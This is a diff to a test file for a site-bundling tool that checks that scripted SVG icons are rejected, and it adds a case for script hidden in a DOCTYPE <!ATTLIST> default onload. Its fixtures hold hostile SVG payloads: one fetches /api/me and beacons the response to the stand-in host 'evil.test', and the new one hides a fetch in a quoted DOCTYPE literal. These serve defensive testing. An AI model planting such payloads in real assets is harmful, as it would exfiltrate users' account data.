@@ -24,6 +24,13 @@ const ICON = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path 
 const SCRIPTED_ICON =
   '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M2 3h20"/>' +
   '<script>fetch("/api/me").then((r) => r.text()).then((t) => navigator.sendBeacon("//evil.test", t))</script></svg>';
+/**
+ * An icon whose script no tag shows (issue 44 item 1): the internal subset gives `<svg>` a default `onload`, which
+ * Chromium applies when the file is opened. The doctype's first `>` is inside its quoted literal.
+ */
+const ATTLIST_ICON =
+  '<!DOCTYPE svg SYSTEM "x>y" [ <!ATTLIST svg onload CDATA "fetch(\'/api/me\')"> ]>' +
+  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M2 3h20"/></svg>';
 /** A Latin-1 stylesheet that says so, with an `é` (byte E9) in a URL. */
 const LATIN1_CSS = Buffer.from('@charset "iso-8859-1";\n.hero{background:url(caf\u00e9-latin.png)}', 'latin1');
 
@@ -46,6 +53,7 @@ beforeAll(async () => {
     const send = (type: string, body: string | Buffer): void =>
       void res.writeHead(200, { 'content-type': type }).end(body);
     if (url.pathname === '/scripted.svg') return send('image/svg+xml', SCRIPTED_ICON);
+    if (url.pathname === '/attlist.svg') return send('image/svg+xml', ATTLIST_ICON);
     if (url.pathname.endsWith('.svg')) return send('image/svg+xml', ICON);
     if (url.pathname === '/escapes.css')
       return send('text/css', '.a{background:url(\\61.png)}.b{background:url("caf\\e9 .png")}.c{mask:url(a\\)b.png)}');
@@ -212,6 +220,14 @@ withTls('bundle never makes a scripted SVG same-origin', () => {
     expect(result.log).toContain('Use an SVG without scripts, or host a cleaned copy with the site');
     expect(result.log).toContain('loaded by guides/math.html');
     expect(result.log).toContain('external-assets: keep');
+    await expectUntouched(result);
+  });
+
+  test('an icon whose DOCTYPE declares a default onload fails the step too (issue 44 item 1)', async () => {
+    const icon = `<img src="${origin('icons')}/attlist.svg" alt="">`;
+    const result = await run(icon, { page: 'guides/math.html', workspace: previousWorkspace() });
+    expect(result.log).toContain(`${origin('icons')}/attlist.svg: is an SVG with a markup declaration (<!ATTLIST>)`);
+    expect(result.log).toContain('loaded by guides/math.html');
     await expectUntouched(result);
   });
 });
